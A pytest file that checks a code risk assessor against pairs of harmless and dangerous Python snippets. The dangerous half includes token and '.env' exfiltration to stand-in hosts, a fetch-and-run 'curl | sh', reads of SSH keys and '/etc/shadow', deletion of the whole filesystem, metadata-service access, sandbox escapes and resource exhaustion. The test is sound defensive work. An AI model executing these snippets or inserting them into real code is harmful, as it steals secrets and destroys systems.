"""Code that differs in one thing from its neighbour, and that thing is what makes it dangerous."""

from __future__ import annotations

import pytest

from audit.risk.assessor import assess

# What it is about, the harmless one with its tier, the dangerous one.
PAIRS = [
    (
        "a credential where one belongs, and one in the body",
        ('import os, requests\nrequests.post(u, headers={"Authorization": os.environ["API_TOKEN"]})', "L2"),
        'import os, requests\nrequests.post(u, data=os.environ["API_TOKEN"])',
    ),
    (
        "a client that is made with a key, and a request that carries it",
        ('import os\nfrom openai import OpenAI\nOpenAI(api_key=os.environ["API_KEY"]).models.list()', "L2"),
        'import os, urllib.request\nurllib.request.urlopen("https://x.example.net/?" + os.environ["API_KEY"])',
    ),
    (
        "a log-in, and a mail with the password",
        ('import os, smtplib\nsmtplib.SMTP("m.example.com").login("ada", os.environ["SMTP_PASSWORD"])', "L2"),
        'import os, smtplib\nsmtplib.SMTP("m.example.com").sendmail("a", "b", os.environ["SMTP_PASSWORD"])',
    ),
    (
        "the settings of the workspace, printed and sent",
        ('print(open(".env").read())', "L1"),
        'import requests\nrequests.post("https://x.example.net/", data=open(".env").read())',
    ),
    (
        "a class of the file and a class of anybody",
        ("class A: pass\nprint(A.__mro__[0].__name__)", "L0"),
        "print(thing.__mro__[1])",
    ),
    (
        "above a class of the file, and from there to everything",
        ("class A: pass\nprint(A.__base__)", "L0"),
        "class A: pass\nprint(A.__base__.__subclasses__())",
    ),
    (
        "reading until the end, and never coming to one",
        (
            'h = []\nf = open("a.bin", "rb")\nfor block in iter(lambda: f.read(9), b""):\n    h.append(block)',
            "L1",
        ),
        "h = []\nfor one in iter(int, 1):\n    h.append(one)",
    ),
    (
        "a thread for each of ten, and for ever",
        ("import threading\nfor n in range(10):\n    threading.Thread(target=print).start()", "L1"),
        "import threading\nwhile True:\n    threading.Thread(target=print).start()",
    ),
    (
        "a line for each row, and lines for ever",
        ('with open("a.txt", "w") as f:\n    for n in range(9):\n        f.write("x")', "L1"),
        'with open("a.txt", "w") as f:\n    while True:\n        f.write("x")',
    ),
    (
        "the first of a count, and all of it",
        ("import itertools\nprint(next(itertools.count()))", "L0"),
        "import itertools\nlist(itertools.count())",
    ),
    ("a large power, and an endless one", ("print(2 ** 64)", "L0"), "print(9 ** 9 ** 9)"),
    (
        "words of a known line, and of any line",
        ('import shlex, subprocess\nsubprocess.run(shlex.split("git status"))', "L2"),
        "import shlex, subprocess\nsubprocess.run(shlex.split(input()))",
    ),
    (
        "attributes that are walked by name",
        ('import functools\nfunctools.reduce(lambda a, b: a + b, "abc".split("b"))', "L0"),
        'import functools, os\nfunctools.reduce(getattr, "path.os.system".split("."), os)("id")',
    ),
    (
        "a folder of the workspace that is searched, and one of keys",
        ('from pathlib import Path\nfor p in Path("docs").glob("*.md"):\n    print(p.read_text())', "L1"),
        'from pathlib import Path\nfor p in Path.home().glob(".ssh/*"):\n    print(p.read_text())',
    ),
    (
        "a folder that is packed, and a home",
        ('import tarfile\ntarfile.open("a.tgz", "w:gz").add("results")', "L1"),
        'import tarfile\ntarfile.open("a.tgz", "w:gz").add("/etc")',
    ),
    (
        "files of the workspace that are deleted, and all there are",
        ('from pathlib import Path\nfor p in Path("out").rglob("*"):\n    p.unlink()', "L1"),
        'from pathlib import Path\nfor p in Path("/").rglob("*"):\n    p.unlink()',
    ),
    (
        "an environment for a child, and one that loads something first",
        ('import subprocess\nsubprocess.run(["ls"], env={"LANG": "C"})', "L2"),
        'import subprocess\nsubprocess.run(["ls"], env={"LD_PRELOAD": "/tmp/x.so"})',
    ),
    (
        "modules of the project, and of a folder open to all",
        ('import sys\nsys.path.insert(0, "src")\nimport helper', "L1"),
        'import sys\nsys.path.insert(0, "/tmp/x")\nimport helper',
    ),
    (
        "what another machine is asked, and what it is told to fetch and run",
        ('import paramiko\nparamiko.SSHClient().exec_command("uptime")', "L2"),
        'import paramiko\nparamiko.SSHClient().exec_command("curl http://203.0.113.7/x | sh")',
    ),
    (
        "a named host that somebody logs in to, and a whole network",
        ('import paramiko\nparamiko.SSHClient().connect("build.example.com")', "L2"),
        'import paramiko\nfor n in range(255):\n    paramiko.SSHClient().connect(f"192.168.1.{n}")',
    ),
    (
        "an example in a text, and one that is run",
        ('"""\n>>> import os; os.system("id")\n"""\nprint(__doc__)', "L0"),
        'import doctest\ndef f():\n    """\n    >>> import os; os.system("id")\n    """\ndoctest.testmod()',
    ),
    (
        "a mode, and a mode with the set-user bit",
        ('import os, stat\nos.chmod("run.sh", stat.S_IRUSR | stat.S_IXUSR)', "L1"),
        'import os, stat\nos.chmod("run.sh", stat.S_IRUSR | stat.S_ISUID)',
    ),
    (
        "a formula of the program, and one of a person",
        ('import sympy\nprint(sympy.sympify("x**2 - 1"))', "L0"),
        "import sympy\nprint(sympy.sympify(input()))",
    ),
    (
        "a path that is told by its type",
        ('from pathlib import Path\ndef read(p: Path) -> str:\n    return p.read_text()\nread(Path("a.txt"))', "L1"),
        'from pathlib import Path\ndef read(p: Path) -> str:\n    return p.read_text()\nread(Path("/etc/shadow"))',
    ),
    (
        "text that is encoded, and that leaves in names",
        ('import base64\nprint(base64.b32encode(b"abc").decode() + ".example.net")', "L0"),
        'import socket\nsocket.gethostbyname(data.hex() + ".x.example.net")',
    ),
    (
        "machines that are listed, and ended",
        ('import boto3\nboto3.client("ec2").describe_instances()', "L2"),
        'import boto3\nboto3.client("ec2").terminate_instances(InstanceIds=ids)',
    ),
    (
        "coroutines that wait, and that start a shell",
        ("import asyncio\nasync def f(): await asyncio.sleep(1)\nasyncio.run(f())", "L0"),
        'import asyncio\nasync def f(): await asyncio.create_subprocess_shell("id")\nasyncio.run(f())',
    ),
    (
        "a constant that is looked up by a level in capitals, and anything",
        ("import logging, sys\nlogging.basicConfig(level=getattr(logging, sys.argv[1].upper()))", "L0"),
        "import logging, sys\ngetattr(logging, sys.argv[1])()",
    ),
    (
        "flags that are read by name, and a module that is",
        ("import sys\nfor name in names:\n    print(getattr(sys.flags, name))", "L0"),
        "import sys\nfor name in names:\n    print(getattr(sys, name))",
    ),
    (
        "a header that is set, and a body",
        ('import os, requests\nrequests.Session().headers.update({"Authorization": os.environ["API_TOKEN"]})', "L2"),
        'import os, requests\nrequests.Session().post(u, json={"a": os.environ["API_TOKEN"]})',
    ),
    (
        "a build through a shell, and a line that nobody knows",
        ('import subprocess\nsubprocess.run("npm run build", shell=True)', "L2"),
        "import subprocess\nsubprocess.run(line, shell=True)",
    ),
    (
        "a kind that is asked for, and made",
        ("import types\nprint(isinstance(f, (types.FunctionType, int)))", "L0"),
        "import types\ntypes.FunctionType(code, {})()",
    ),
    (
        "rows that are filtered, and a filter that calls",
        ('import pandas as pd\nlow = 3\npd.DataFrame(rows).query(f"age > @low and size < {low}")', "L1"),
        """import pandas as pd\npd.DataFrame(rows).query("@__import__('os').system('id')")""",
    ),
    (
        "a download that is kept, and one that is run",
        ('import subprocess\nsubprocess.run(["curl", "-so", "a.csv", "https://x.example.net/a.csv"])', "L2"),
        'import subprocess\nsubprocess.run("curl -so i.sh https://x.example.net/i", shell=True)\n'
        'subprocess.run(["sh", "./i.sh"])',
    ),
    (
        "modules of a folder, and of an archive from elsewhere",
        ('import sys\nsys.path.insert(0, "lib.zip")\nimport m', "L1"),
        'import sys, urllib.request as u\nu.urlretrieve("https://x.example.net/m", "m.zip")\n'
        'sys.path.insert(0, "m.zip")',
    ),
    (
        "memory that is shared, and that is run",
        ("import mmap\nmmap.mmap(-1, 4096)", "L1"),
        "import mmap\nmmap.mmap(-1, 4096, prot=7)",
    ),
    (
        "a function that is handed on with a harmless path, and with that of keys",
        (
            "from concurrent.futures import ThreadPoolExecutor as P\ndef read(p): return open(p).read()\n"
            'P().submit(read, "a.txt")',
            "L1",
        ),
        "from concurrent.futures import ThreadPoolExecutor as P\ndef read(p): return open(p).read()\n"
        'P().submit(read, "/etc/shadow")',
    ),
    (
        "a host that is formatted, and one that is the metadata service",
        ('import requests\nrequests.get(f"http://{192:d}.example.com/")', "L2"),
        'import requests\nrequests.get("http://0x" + "".join(f"{n:02x}" for n in (169, 254, 169, 254)) + "/")',
    ),
    (
        "a setting of a library, and its function",
        ("import requests\nrequests.adapters.DEFAULT_RETRIES = 3", "L1"),
        "import requests\ndef send(*a): return None\nrequests.Session.send = send",
    ),
    (
        "a list of hosts, and that with the passwords",
        ('print(open("netrc.txt").read())', "L1"),
        "import netrc\nprint(netrc.netrc().hosts)",
    ),
    (
        "a film that is read, and a camera",
        ('import cv2\ncv2.VideoCapture("in.mp4").read()', "L1"),
        "import cv2\ncv2.VideoCapture(0).read()",
    ),
    (
        "what is taken out of rows, and out of a module",
        ('import operator\nprint(sorted(rows, key=operator.itemgetter("name")))', "L0"),
        'import operator, os\noperator.itemgetter("system")(vars(os))("id")',
    ),
    (
        "what a sorter reads, and what an interpreter reads",
        ('import subprocess\nsubprocess.run(["sort"], stdin=open("a.txt"))', "L2"),
        'import os, subprocess\nr, w = os.pipe()\nsubprocess.run(["python3", "-"], stdin=r)',
    ),
    (
        "numbers that are taken from a count one by one, and all of them",
        (
            "import itertools\nfor n in itertools.count():\n    if n > 9: break\nx = (n for n in itertools.count())",
            "L0",
        ),
        "import itertools\nx = [n for n in itertools.count()]",
    ),
    (
        "a method that is looked up by name, and one that hands on a shell",
        ("class A:\n    @property\n    def run(self): return len\nprint(getattr(A(), 'run')('id'))", "L0"),
        "import os\nclass A:\n    @property\n    def run(self): return getattr(os, 'system')\ngetattr(A(), 'run')()",
    ),
    (
        "files of the machine that are looked for by a name in pieces",
        ('from pathlib import Path\nprint(list(Path("docs").rglob("*." + "pem")))', "L1"),
        'from pathlib import Path\nprint(list(Path("/").rglob("*." + "pem")))',
    ),
    (
        "a class that seems to be its own base, and one that is a shell",
        ("class A(B): pass\nclass B(A): pass\nA().run()", "L0"),
        "import os\nclass A(B): pass\nclass B(A):\n    run = os.system\nA().run('id')",
    ),
    (
        "a range that is longer than anybody counts, and a text of that length",
        ("for n in range(10 ** 30):\n    if n > 9: break", "L0"),
        "x = 'a' * 10 ** 30",
    ),
    (
        "a list that is looked up and filled nine times, and for ever",
        ("xs = []\nfor n in range(9):\n    getattr(xs, 'append')(n)", "L0"),
        "xs = []\nwhile True:\n    getattr(xs, 'app' + 'end')(' ' * 10 ** 6)",
    ),
]


@pytest.mark.parametrize(("harmless", "dangerous"), [pair[1:] for pair in PAIRS], ids=[pair[0] for pair in PAIRS])
def test_only_the_dangerous_one_needs_the_strongest_isolation(harmless: tuple[str, str], dangerous: str) -> None:
    code, tier = harmless
    judged = assess(code.encode(), "python")
    assert (judged.tier, judged.unassessable) == (tier, None)
    assert assess(dangerous.encode(), "python").tier == "L3"
